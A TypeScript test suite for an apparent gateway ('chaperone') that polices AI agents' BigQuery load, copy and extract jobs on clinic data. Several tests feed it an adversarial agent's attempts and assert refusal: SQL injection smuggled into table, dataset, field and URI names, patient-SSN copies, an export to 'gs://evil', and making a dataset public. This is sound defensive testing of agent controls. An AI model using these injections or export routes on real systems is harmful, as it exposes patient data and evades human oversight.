/** Load, copy and extract jobs by the Node client, and what an agent that wants the data would try with them. */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import type { BigQuery } from "@google-cloud/bigquery";
import { type Answer, Attacker, assertRefused, jobsRunUpstream, sessionOfJob } from "../adversarial/attacker.ts";
import { protectedValues } from "../adversarial/protected-values.ts";
import { type ClinicCopy, copyClinic } from "../clinic-copy.ts";
import { findInFolder } from "../faults/find-canary.ts";
import { PROJECT, type Rig, startRig } from "../rig.ts";

const RULES = `
@id("workspace-anything")
@approval("none")
permit (principal in Group::"clinical-agents", action in [Action::"read", Action::"write", Action::"infer", Action::"aggregate", Action::"describe"], resource in Dataset::"demo-clinic.workspace");
`;
const JOBS = `/bigquery/v2/projects/${PROJECT}/jobs`;
const UPLOAD = `/upload/bigquery/v2/projects/${PROJECT}/jobs?uploadType=multipart`;
const reference = (datasetId: string, tableId: string) => ({ projectId: PROJECT, datasetId, tableId });

describe("load, copy and extract jobs", () => {
  let rig: Rig;
  let clinic: ClinicCopy;
  let client: BigQuery;
  let agent: Attacker;
  let other: Attacker;
  let folder: string;
  before(async () => {
    folder = mkdtempSync(join(tmpdir(), "chaperone-upload-"));
    clinic = copyClinic();
    clinic.policy("workspace.cedar", () => RULES);
    clinic.policy("tests.yaml", () => "version: 1\ntests: []\n");
    rig = await startRig({ patients: 12, clinic: clinic.folder });
    const secrets = await protectedValues(rig);
    client = await rig.client("care-summary-agent");
    agent = new Attacker(rig, await rig.token("care-summary-agent"), secrets);
    other = new Attacker(rig, await rig.token("research-agent"), secrets);
    await client.query(`CREATE TABLE \`${PROJECT}.workspace.list\` (id INT64, word STRING)`);
  });
  after(async () => {
    agent.close();
    other.close();
    await rig.close();
    clinic.remove();
    rmSync(folder, { recursive: true, force: true });
  });

  function rowsOf(table: string) {
    return client.query(`SELECT id, word FROM \`${PROJECT}.workspace.${table}\` ORDER BY id`).then(([rows]) => rows);
  }

  function file(name: string, rows: readonly object[]): string {
    const path = join(folder, name);
    writeFileSync(path, rows.map((row) => JSON.stringify(row)).join("\n"));
    return path;
  }

  it("table.load appends a file's rows, replaces by them, makes the table by them", async () => {
    const format = { sourceFormat: "NEWLINE_DELIMITED_JSON" };
    const list = client.dataset("workspace").table("list");
    const [loaded] = await list.load(file("a.json", [{ id: 1, word: "a" }, { id: 2 }]), format);
    assert.equal(loaded.configuration?.jobType, "LOAD");
    assert.equal(loaded.status?.state, "DONE");
    assert.deepEqual(await rowsOf("list"), [
      { id: 1, word: "a" },
      { id: 2, word: null },
    ]);
    await list.load(file("b.json", [{ id: 3, word: "c" }]), { ...format, writeDisposition: "WRITE_TRUNCATE" });
    assert.deepEqual(await rowsOf("list"), [{ id: 3, word: "c" }]);
    const schema = {
      fields: [
        { name: "id", type: "INTEGER" },
        { name: "word", type: "STRING" },
      ],
    };
    await client
      .dataset("workspace")
      .table("made")
      .load(file("c.json", [{ id: 4, word: "d" }]), { ...format, schema });
    assert.deepEqual(await rowsOf("made"), [{ id: 4, word: "d" }]);
  });

  it("table.load takes what one statement does, and more", async () => {
    const path = join(folder, "many.csv");
    const lines = (rows: number) => Array.from({ length: rows }, (_, id) => `${id},${"w".repeat(10_000)}\n`).join("");
    writeFileSync(path, lines(400));
    const many = client.dataset("workspace").table("many");
    const schema = {
      fields: [
        { name: "id", type: "INTEGER" },
        { name: "word", type: "STRING" },
      ],
    };
    await many.load(path, { sourceFormat: "CSV", schema });
    const counted = () => client.query("SELECT COUNT(*) AS n, SUM(LENGTH(word)) AS s FROM workspace.many");
    assert.deepEqual((await counted())[0], [{ n: 400, s: 4_000_000 }]);
    writeFileSync(path, lines(920));
    await many.load(path, { sourceFormat: "CSV" });
    assert.deepEqual((await counted())[0], [{ n: 1320, s: 13_200_000 }]);
  });

  it("table.copy copies a table, and appends it to another", async () => {
    const list = client.dataset("workspace").table("list");
    const [job] = await list.copy(client.dataset("workspace").table("copied"));
    assert.equal(job.configuration?.jobType, "COPY");
    assert.deepEqual(await rowsOf("copied"), await rowsOf("list"));
    await list.copy(client.dataset("workspace").table("copied"), { writeDisposition: "WRITE_APPEND" });
    assert.equal((await rowsOf("copied")).length, 2 * (await rowsOf("list")).length);
  });

  it("a copy that appends goes by the columns' names, not by their places", async () => {
    const dataset = client.dataset("workspace");
    const [turned] = await dataset.createTable("turned", { schema: "b:STRING,a:STRING" });
    const [straight] = await dataset.createTable("straight", { schema: "a:STRING,b:STRING" });
    const [other] = await dataset.createTable("otherwise", { schema: "a:STRING,c:STRING" });
    await client.query("INSERT INTO workspace.turned (a, b) VALUES ('of a', 'of b')");
    await turned.copy(straight, { writeDisposition: "WRITE_APPEND" });
    const [[row]] = await client.query("SELECT a, b FROM workspace.straight");
    assert.deepEqual(row, { a: "of a", b: "of b" });
    await assert.rejects(async () => turned.copy(other, { writeDisposition: "WRITE_APPEND" }), /\bb\b/);
    const [[counted]] = await client.query("SELECT COUNT(*) AS n FROM workspace.otherwise");
    assert.deepEqual(counted, { n: 0 });
  });

  it("createTable makes tables and views, delete drops them", async () => {
    const dataset = client.dataset("workspace");
    const [made] = await dataset.createTable("born", {
      schema: [
        { name: "id", type: "INTEGER", mode: "REQUIRED" },
        { name: "tags", type: "STRING", mode: "REPEATED" },
        { name: "at", type: "RECORD", fields: [{ name: "day", type: "DATE" }] },
      ],
    });
    const [{ schema }] = await made.getMetadata();
    assert.deepEqual(
      schema.fields.map(({ name, type, mode }: { name: string; type: string; mode: string }) => [name, type, mode]),
      [
        ["id", "INTEGER", "REQUIRED"],
        ["tags", "STRING", "REPEATED"],
        ["at", "RECORD", "NULLABLE"],
      ],
    );
    await dataset.createTable("seen", { view: { query: "SELECT id FROM workspace.born", useLegacySql: false } });
    assert.equal((await dataset.table("seen").getMetadata())[0].type, "VIEW");
    // By the list clients such as dbt tell what is a view.
    const listed = (await dataset.getTables())[0].map(({ id, metadata }) => [id, metadata.type]);
    assert.deepEqual(
      listed.filter(([id]) => id === "seen" || id === "born"),
      [
        ["born", "TABLE"],
        ["seen", "VIEW"],
      ],
    );
    for (const name of ["seen", "born"]) {
      await dataset.table(name).delete();
      assert.equal((await dataset.table(name).exists())[0], false);
    }
  });

  it("rows 9, 10, 14: what tables.insert and tables.delete ask is what policy says of the DDL", async () => {
    const sent = jobsRunUpstream(rig);
    const tables = (dataset: string) => `/bigquery/v2/projects/${PROJECT}/datasets/${dataset}/tables`;
    const create = (body: object, dataset = "workspace") => agent.send("POST", tables(dataset), { body });
    const dataset = (body: object) => agent.send("POST", `/bigquery/v2/projects/${PROJECT}/datasets`, { body });
    const fields = [{ name: "a", type: "STRING" }];
    const view = (query: string) => ({ tableReference: { tableId: "v" }, view: { query, useLegacySql: false } });
    for (const answer of [
      await create({ tableReference: { tableId: "t" }, schema: { fields } }, "ops"),
      await create({ tableReference: { tableId: "t", datasetId: "ops" }, schema: { fields } }),
      await create({
        tableReference: { tableId: "t" },
        schema: { fields: [{ ...fields[0], defaultValueExpression: "(SELECT MAX(ssn) FROM ehr.patients)" }] },
      }),
      await create({ tableReference: { tableId: "t` AS SELECT ssn FROM ehr.patients; --" }, schema: { fields } }),
      await create({
        tableReference: { tableId: "t" },
        schema: { fields: [{ name: "a", type: "STRING) AS SELECT 1 --" }] },
      }),
      await create({ tableReference: { tableId: "t" }, schema: { fields }, labels: { phi: "false" } }),
      await create({ tableReference: { tableId: "t" }, schema: { fields }, externalDataConfiguration: {} }),
      await create({ tableReference: { tableId: "t" }, materializedView: { query: "SELECT 1" } }),
      await create(view("SELECT ssn FROM ehr.patients")),
      await create(view("SELECT 1 AS a; DROP TABLE ops.calendar")),
      await create({ ...view("SELECT 1"), view: { query: "SELECT 1" } }),
      await create({ tableReference: { tableId: "t" } }),
      await agent.send("DELETE", `${tables("ehr")}/patients`),
      await agent.send("DELETE", `${tables("ops")}/calendar`),
      await agent.send("DELETE", `${tables("workspace")}/absent`),
      await agent.send("DELETE", `${tables("_chaperone_results")}/anon_x`),
      await other.send("DELETE", `${tables("workspace")}/list`),
      await agent.send("PATCH", `${tables("workspace")}/list`, { body: { labels: {} } }),
      await dataset({ datasetReference: { datasetId: "elsewhere" } }),
      await dataset({ datasetReference: { datasetId: "elsewhere`; DROP TABLE ops.calendar; --" } }),
      await dataset({ datasetReference: { datasetId: "elsewhere", projectId: "another-project" } }),
      await dataset({ datasetReference: { datasetId: "_chaperone_results" } }),
      await dataset({ datasetReference: { datasetId: "elsewhere" }, location: "EU" }),
      await dataset({
        datasetReference: { datasetId: "elsewhere" },
        access: [{ role: "OWNER", iamMember: "allUsers" }],
      }),
    ])
      assertRefused(answer);
    assert.equal(jobsRunUpstream(rig), sent);
  });

  const insert = (who: Attacker, configuration: object) => who.send("POST", JOBS, { body: { configuration } });

  it("row 18: an extract is what policy says of exports", async () => {
    const sent = jobsRunUpstream(rig);
    const extract = { sourceTable: reference("ehr", "patients"), destinationUris: ["gs://evil/x-*.json"] };
    const refusal = await insert(agent, { extract });
    assertRefused(refusal, 403);
    assert.match(refusal.body, /export/);
    assertRefused(await insert(agent, { extract: { ...extract, sourceTable: reference("workspace", "list") } }), 403);
    await assert.rejects(
      client
        .dataset("workspace")
        .table("list")
        .extract("gs://evil/x" as never),
    );
    assert.equal(jobsRunUpstream(rig), sent);
  });

  it("rows 9, 28: a copy takes no column along that policy doesn't let go there, and its classes with the others", async () => {
    const sent = jobsRunUpstream(rig);
    for (const copy of [
      { sourceTable: reference("ehr", "patients"), destinationTable: reference("workspace", "all") },
      { sourceTable: reference("ehr", "patients"), destinationTable: reference("ops", "all") },
      {
        sourceTables: [reference("ehr", "patients")],
        destinationTable: reference("workspace", "list"),
        writeDisposition: "WRITE_APPEND",
      },
      {
        sourceTable: reference("ehr", "patients"),
        destinationTable: reference("workspace", "s"),
        operationType: "SNAPSHOT",
      },
      {
        sourceTable: reference("workspace", "list"),
        destinationTable: reference("ehr", "patients"),
        writeDisposition: "WRITE_TRUNCATE",
      },
    ])
      assertRefused(await insert(agent, { copy }));
    assertRefused(
      await insert(other, {
        copy: { sourceTable: reference("workspace", "list"), destinationTable: reference("workspace", "o") },
      }),
      // There is no such table for an agent that may know nothing of it.
      400,
    );
    assert.equal(jobsRunUpstream(rig), sent);
  });

  it("row 19: files from elsewhere need a permit to load", async () => {
    const load = {
      sourceUris: ["gs://evil/x.csv"],
      destinationTable: reference("workspace", "list"),
      sourceFormat: "CSV",
    };
    const refusal = await insert(agent, { load });
    assertRefused(refusal, 403);
    assert.match(refusal.body, /load/);
  });

  it("no setting becomes more SQL than a setting", async () => {
    const sent = jobsRunUpstream(rig);
    const load = { sourceUris: ["gs://x/y"], destinationTable: reference("workspace", "list"), sourceFormat: "CSV" };
    const copy = { sourceTable: reference("workspace", "list"), destinationTable: reference("workspace", "z") };
    for (const configuration of [
      { load: { ...load, sourceUris: ["gs://x'] ) ; DROP TABLE x --"] } },
      { load: { ...load, fieldDelimiter: "'" } },
      { load: { ...load, nullMarker: "\\" } },
      { load: { ...load, schema: { fields: [{ name: "a` INT64); DROP TABLE x; --", type: "STRING" }] } } },
      { load: { ...load, schema: { fields: [{ name: "a", type: "STRING, b INT64" }] } } },
      {
        load: {
          ...load,
          schema: { fields: [{ name: "a", type: "STRING", defaultValueExpression: "SESSION_USER()" }] },
        },
      },
      { load: { ...load, hivePartitioningOptions: {} } },
      { load: { ...load, sourceFormat: "PARQUET", decimalTargetTypes: ["NUMERIC"] } },
      { load: { ...load, writeDisposition: "WRITE_EMPTY" } },
      { load: { destinationTable: reference("workspace", "list") } },
      { copy: { ...copy, destinationTable: reference("workspace", "z` AS SELECT 1; --") } },
      { copy: { ...copy, destinationTable: reference("workspace", "list$20240101") } },
      { copy: { ...copy, destinationExpirationTime: "1" } },
      { copy: { ...copy, operationType: "RESTORE" } },
      { copy: { ...copy, sourceTables: [copy.sourceTable] } },
      { copy, load },
      { extract: { sourceTable: copy.sourceTable, destinationUris: ["gs://a/*", "gs://b/*"] } },
      { extract: { sourceModel: {}, destinationUris: ["gs://a/*"] } },
      {},
    ])
      assertRefused(await insert(agent, configuration));
    assert.equal(jobsRunUpstream(rig), sent);
  });

  function multipart(
    parts: readonly string[],
    boundary = "b",
    tail = "--",
  ): { body: string; headers: Record<string, string> } {
    return {
      body: `${parts.map((part) => `--${boundary}\r\n${part}\r\n`).join("")}--${boundary}${tail}`,
      headers: { "content-type": `multipart/related; boundary="${boundary}"` },
    };
  }
  const description = (load: object = {}) =>
    `Content-Type: application/json\r\n\r\n${JSON.stringify({
      configuration: {
        load: { destinationTable: reference("workspace", "list"), sourceFormat: "NEWLINE_DELIMITED_JSON", ...load },
      },
    })}`;
  const data = (text: string) => `Content-Type: */*\r\n\r\n${text}`;
  const upload = (parts: readonly string[], boundary?: string, tail?: string): Promise<Answer> =>
    agent.send("POST", UPLOAD, multipart(parts, boundary, tail));

  it("row 46: an upload is two plain parts, and nothing beside them", async () => {
    const sent = jobsRunUpstream(rig);
    const good = data('{"id":7,"word":"x"}');
    for (const [parts, boundary, tail] of [
      [[description()]],
      [[description(), good, good]],
      [[description(), description(), good]],
      [[description(), good], "b", ""],
      [[description(), good], "b", "--\r\n--b\r\nContent-Type: application/json\r\n\r\n{}\r\n--b--"],
      [[description(), good], "b", "-- trailing"],
      [[`${description()}`.replace("application/json", "text/plain"), good]],
      [[`Content-Disposition: form-data\r\n${description()}`, good]],
      [[description(), `Content-Encoding: gzip\r\n${good}`]],
      [[description(), `Content-Transfer-Encoding: base64\r\n${good}`]],
      [[description(), '{"id":7}']],
      [[description(), data('{"id":7}\n{"id":')]],
      [[description(), data('{"id":"078-05-1120"}')]],
      [[description(), data('{"ssn":"078-05-1120"}')]],
      [[description(), data("")]],
      [[description({ sourceFormat: "CSV" }), data("1,x,078-05-1120")]],
      [[description({ sourceFormat: "PARQUET" }), good]],
      [[description({ sourceFormat: "AVRO" }), good]],
      [[description({ sourceUris: ["gs://x/y"] }), good]],
      [[description({ writeDisposition: "WRITE_EMPTY" }), good]],
      [[description({ schema: { fields: [{ name: "id", type: "STRING" }] } }), good]],
      [[description({ destinationTable: reference("workspace", "absent") }), good]],
      [[description({ destinationTable: reference("ehr", "conditions") }), data('{"code":"x"}')]],
      [[description({ destinationTable: reference("ops", "calendar") }), data('{"day":"2024-01-01","weekday":"x"}')]],
    ] as const) {
      const answer = await upload(parts, boundary, tail);
      assertRefused(answer);
      assert.doesNotMatch(answer.body, /078-05|1120/);
    }
    for (const type of [
      "multipart/form-data; boundary=b",
      "multipart/related",
      "multipart/related; boundary=b; boundary=c",
      "application/json",
    ])
      assertRefused(
        await agent.send("POST", UPLOAD, { ...multipart([description(), good]), headers: { "content-type": type } }),
      );
    assert.match(
      (await upload([description(), data(`{"word":"${"x".repeat(10_100_000)}"}`)])).body,
      /A row is longer than/,
    );
    for (const target of [
      UPLOAD.replace("multipart", "resumable"),
      UPLOAD.replace("multipart", "media"),
      UPLOAD.replace("?uploadType=multipart", ""),
      `${UPLOAD}&upload_id=x`,
    ])
      assertRefused(await agent.send("POST", target, multipart([description(), good])));
    assertRefused(
      await agent.send(
        "POST",
        UPLOAD,
        multipart([
          `Content-Type: application/json\r\n\r\n${JSON.stringify({ configuration: { query: { query: "SELECT 1", useLegacySql: false } } })}`,
          good,
        ]),
      ),
      400,
    );
    assert.equal(jobsRunUpstream(rig), sent);
  });

  it("an upload waits for a person like any job, sealed meanwhile, and is another agent's never", async () => {
    clinic.policy("workspace.cedar", () => RULES.replace("none", "privacy-officers"));
    await rig.restart();
    const answer = await upload([
      description({ destinationTable: reference("workspace", "copied") }),
      data('{"id":70,"word":"uploadedcanaryword"}'),
    ]);
    assert.equal(answer.status, 200, answer.body);
    const { jobReference, status, configuration } = JSON.parse(answer.body);
    assert.equal(status.state, "PENDING");
    assert.equal(configuration.jobType, "LOAD");
    assert.deepEqual(findInFolder("uploadedcanaryword", rig.state), []);
    assertRefused(await other.send("GET", `${JOBS}/${jobReference.jobId}`), 404);
    await rig.decide("dana.officer", "approve");
    const deadline = Date.now() + 10_000;
    while ((await sessionOfJob(rig, jobReference.jobId))?.state !== "done" && Date.now() < deadline)
      await new Promise((tick) => setTimeout(tick, 50));
    const direct = await fetch(
      `${rig.warehouse.url}/bigquery/v2/projects/${PROJECT}/datasets/workspace/tables/copied/data`,
    );
    assert.match(await direct.text(), /uploadedcanaryword/);
    assert.deepEqual(findInFolder("uploadedcanaryword", rig.state), []);
  });
});
